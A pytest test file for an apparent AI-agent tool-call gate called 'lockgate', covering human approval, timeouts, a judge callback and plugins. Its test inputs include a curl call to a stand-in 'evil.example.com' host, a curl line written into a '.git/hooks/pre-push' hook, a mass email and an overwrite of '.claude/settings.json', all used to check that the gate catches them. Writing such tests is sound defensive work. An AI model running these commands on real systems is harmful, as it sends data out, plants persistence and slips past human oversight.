"""Who puts a question before a person, and who judges, where a program runs the gate."""

from __future__ import annotations

import asyncio
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from lockgate import Gate, HookDecision, JudgeQuestion, Opinion, Question, Session
from lockgate.core.errors import PluginError
from lockgate.gate.approvals import questions as approvals
from lockgate.gate.approvals import wakeups
from lockgate.store.sqlite.store import SqliteStore

from .conftest import Open

pytestmark = pytest.mark.anyio

ASKED = {"command": "echo x > .claude/settings.json"}
"""What a person is asked about in a clean session, with the default profile."""
WEB = {"url": "https://news.example.com/", "prompt": "what is new"}


class Person(threading.Thread):
    """Answers the first question of a state, from outside the program."""

    def __init__(self, state: Path, *, approve: bool) -> None:
        super().__init__(daemon=True)
        self._state, self._approve = str(state / "lockgate"), approve
        self.start()

    def run(self) -> None:
        store = SqliteStore.open(self._state)
        until = time.monotonic() + 30
        while time.monotonic() < until:
            with store.transaction() as tx:
                rows = tx.approvals(state="pending")
                for row in rows:
                    told = {"by": "a test", "reason": "not today", "now": time.time()}
                    approvals.decide(tx, row.approval, approve=self._approve, **told)  # type: ignore[arg-type]
            if rows:
                wakeups.wake(self._state, rows[0].approval)
                break
            time.sleep(0.02)
        store.close()


@pytest.mark.parametrize("approve", [True, False])
async def test_somebody_elsewhere_answers(opened: Open, folder: Path, approve: bool) -> None:
    session = opened(ask="wait").session()
    person = Person(folder / "state", approve=approve)
    decision = await session.check("Bash", ASKED)
    assert (decision.verdict, decision.tier) == ("allow" if approve else "deny", "person")
    assert decision.approval
    assert ("not today" in decision.reason) is not approve
    person.join()


def test_somebody_elsewhere_answers_a_thread(opened: Open, folder: Path) -> None:
    session = opened(ask="wait").session()
    person = Person(folder / "state", approve=True)
    assert session.check_sync("Bash", ASKED).allowed
    person.join()


async def test_nobody_is_asked(opened: Open) -> None:
    assert (await opened(ask="deny").session().check("Bash", ASKED)).verdict == "deny"


async def test_the_caller_asks(opened: Open) -> None:
    session = opened(ask="caller").session()
    decision = await session.check("Bash", ASKED)
    assert (decision.verdict, decision.allowed) == ("ask", False)
    assert "settings.json" in decision.for_person
    hook = await session.before_tool_use("Bash", ASKED)
    assert (hook.allowed, hook.decision) == (False, "ask")


def _plain(reply: Any) -> Callable[[Question], Any]:
    return lambda _: reply


def _awaited(reply: Any) -> Callable[[Question], Any]:
    async def ask(_: Question) -> Any:
        await asyncio.sleep(0)
        return reply

    return ask


class _Asker:
    """Asks when it is called, and is no coroutine function."""

    def __init__(self, reply: Any) -> None:
        self._reply = reply

    async def __call__(self, _: Question) -> Any:
        return self._reply


@pytest.mark.parametrize("asks", [_plain, _awaited, _Asker])
@pytest.mark.parametrize(
    ("reply", "allowed"),
    [
        (True, True),
        ((True, ""), True),
        (False, False),
        ((False, "not today"), False),
        (None, False),
        ("yes", False),
        (1, False),
        ((True,), False),
        (("yes", "no"), False),
    ],
)
async def test_the_program_asks(opened: Open, asks: Callable[[Any], Any], reply: Any, allowed: bool) -> None:
    session = opened(ask=asks(reply)).session()
    decision = await session.check("Bash", ASKED)
    blocking = await asyncio.to_thread(session.check_sync, "Bash", ASKED)
    assert (decision.allowed, blocking.allowed) == (allowed, allowed)
    assert decision.tier == "person"
    if reply == (False, "not today"):
        assert "not today" in decision.reason


async def test_what_the_person_is_shown(opened: Open) -> None:
    seen: list[Question] = []
    session = opened(ask=lambda question: bool(seen.append(question)), config={"profile": "cascade"}).session("s")
    await session.finished("WebFetch", WEB, "a page")
    await session.finished("Read", {"file_path": ".env"}, "KEY=1")
    await session.check("Bash", {"command": "git push"})
    (question,) = seen
    assert (question.tool, question.tool_input) == ("Bash", {"command": "git push"})
    assert question.labels == {"untrusted", "secret"}
    assert any("https://news.example.com/" in source for source in question.provenance)
    assert any("git push" in reason for reason in question.reasons)
    assert question.expires_at > time.time()


@pytest.mark.parametrize("asks", ["plain", "async"])
async def test_a_program_that_cannot_ask_has_not_asked(
    opened: Open, asks: str, caplog: pytest.LogCaptureFixture
) -> None:
    def plain(_: Question) -> bool:
        raise RuntimeError("no screen")

    async def later(_: Question) -> bool:
        raise TimeoutError

    session = opened(ask=plain if asks == "plain" else later).session()
    decision = await session.check("Bash", ASKED)
    assert decision.verdict == "deny"
    assert "could not be asked" in decision.reason
    assert "could not be asked" in caplog.text
    assert not (await asyncio.to_thread(session.check_sync, "Bash", ASKED)).allowed


async def test_an_answer_that_comes_too_late_or_never(opened: Open) -> None:
    async def slow(_: Question) -> bool:
        await asyncio.sleep(60)
        return True

    def slow_thread(question: Question) -> bool:
        time.sleep(max(question.expires_at - time.time(), 0) + 0.05)
        return True

    shortest = {"approvals": {"expire_seconds": 5}}
    decisions = await asyncio.gather(
        opened(ask=slow, config=shortest).session().check("Bash", ASKED),
        asyncio.to_thread(opened(ask=slow_thread, config=shortest).session().check_sync, "Bash", ASKED),
        opened(ask="wait", config=shortest).session().check("Bash", ASKED),
    )
    assert [(decision.verdict, decision.tier) for decision in decisions] == [("deny", "person")] * 3


async def test_closing_while_a_person_is_waited_for(opened: Open) -> None:
    gate = opened(ask="wait")
    checks = [asyncio.create_task(gate.session().check("Bash", ASKED)) for _ in range(5)]
    await _until(lambda: _pending(gate) == 5)
    await asyncio.to_thread(gate.close)
    for decision in await asyncio.wait_for(asyncio.gather(*checks), 20):
        assert decision.verdict == "deny"
        assert "the gate is closed" in decision.reason


async def test_giving_up_while_a_person_is_waited_for(opened: Open) -> None:
    gate = opened(ask="wait")
    session = gate.session()
    check = asyncio.create_task(session.check("Bash", ASKED))
    await _until(lambda: _pending(gate) == 1)
    check.cancel()
    with pytest.raises(asyncio.CancelledError):
        await check
    assert (await session.check("Bash", {"command": "ls"})).allowed


async def _until(holds: Callable[[], bool]) -> None:
    async with asyncio.timeout(30):
        while not holds():
            await asyncio.sleep(0.02)


def _pending(gate: Gate) -> int:
    def count(parts: Any) -> int:
        with parts.store.reading() as tx:
            return len(tx.approvals(state="pending"))

    return gate._driver.submit(count).result()


# ---------------------------------------------------------------- the judge
@pytest.fixture
def both(opened: Open) -> Iterator[Callable[..., Session]]:
    """A session that read a page, in the cascade, with a judge."""

    def make(judge: Callable[[JudgeQuestion], Any]) -> Session:
        session = opened(config={"profile": "cascade"}, judge=judge).session()
        session.finished_sync("WebFetch", WEB, "a page")
        return session

    return make


async def test_a_judge_of_the_program(both: Callable[..., Session]) -> None:
    asked: list[JudgeQuestion] = []

    def judge(question: JudgeQuestion) -> Opinion:
        asked.append(question)
        return Opinion(flagged="evil" in str(question.call.tool_input), reason="it names evil")

    session = both(judge)
    fine = await session.check("Bash", {"command": "curl https://good.example.com/?q=1"})
    assert (fine.verdict, fine.tier) == ("allow", "judge")
    bad = await asyncio.to_thread(session.check_sync, "Bash", {"command": "curl https://evil.example.com/?q=1"})
    assert (bad.verdict, bad.tier) == ("deny", "judge")
    assert len(asked) == 2
    assert asked[0].labels == {"untrusted"}


def _raises(_: JudgeQuestion) -> Opinion:
    raise RuntimeError("no model")


@pytest.mark.parametrize(
    "judge",
    [
        pytest.param(_raises, id="it raises"),
        pytest.param(lambda _: None, id="it says nothing"),
        pytest.param(lambda _: Opinion(flagged="false", reason=""), id="a text"),  # type: ignore[arg-type]
        pytest.param(lambda _: Opinion(flagged=0, reason=""), id="a number"),  # type: ignore[arg-type]
        pytest.param(lambda _: Opinion(flagged=False, reason="", failed="late"), id="it says that it failed"),
    ],
)
async def test_a_judge_that_fails_has_objected(both: Callable[..., Session], judge: Any) -> None:
    assert (await both(judge).check("Bash", {"command": "curl https://x.example.com/?q=1"})).verdict == "deny"


# ---------------------------------------------------------------- plugins
class Careful:
    """Objects to a word in a call, and to another in a result."""

    def before_tool_use(self, tool_name: str, tool_input: dict[str, Any]) -> dict[str, str] | None:
        if "forbidden" in str(tool_input):
            return {"decision": "deny", "reason": "it names what is forbidden"}
        return None

    async def after_tool_use(self, tool_output: str) -> HookDecision:
        return HookDecision("classified" not in tool_output, "it is classified")


class Failing:
    def before_tool_use(self, tool_name: str) -> None:
        raise RuntimeError(tool_name)


async def test_plugins_of_the_program(opened: Open) -> None:
    session = opened(plugins=[Careful()]).session()
    assert (await session.check("Bash", {"command": "ls"})).allowed
    decision = await session.check("Bash", {"command": "ls forbidden"})
    assert (decision.verdict, decision.tier) == ("deny", "rules")
    assert "what is forbidden" in decision.reason
    assert not session.check_sync("Bash", {"command": "ls forbidden"}).allowed
    result = await session.finished("Bash", {"command": "ls"}, "classified: 7")
    assert result.changed
    assert "7" not in result.output
    assert not (await session.finished("Bash", {"command": "ls"}, "open")).changed


async def test_a_plugin_of_the_program_that_fails_denies(opened: Open, caplog: pytest.LogCaptureFixture) -> None:
    decision = await opened(plugins=[Careful(), Failing()]).session().check("Bash", {"command": "ls"})
    assert decision.verdict == "deny"
    assert "Failing" in decision.reason
    assert "Failing" in caplog.text


def test_an_object_that_is_no_plugin(opened: Open) -> None:
    for wrong in (object(), Careful):
        with pytest.raises(PluginError):
            opened(plugins=[wrong])


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        pytest.param("Bash", {"command": f"curl https://a.example/ {'#' * 5000}\ncurl https://b.example/"}, id="long"),
        pytest.param("mcp__mail__send", {"to": [f"ann{number}@a.example" for number in range(80)]}, id="many"),
        pytest.param("Write", {"file_path": ".git/hooks/pre-push", "content": "curl https://b.example/"}, id="content"),
    ],
)
async def test_the_call_is_shown_whole(opened: Open, tool: str, tool_input: dict[str, Any]) -> None:
    """What a record would cut, or tell by its hash, is what a person says yes to."""
    seen: list[Question] = []
    asks = {row: {"untrusted": "ask"} for row in ("fetch", "egress", "persist")}
    session = opened(ask=lambda question: bool(seen.append(question)), config={"table": asks}).session("s")
    await session.finished("WebFetch", WEB, "a page")
    await session.check(tool, tool_input)
    assert [question.tool_input for question in seen] == [tool_input]
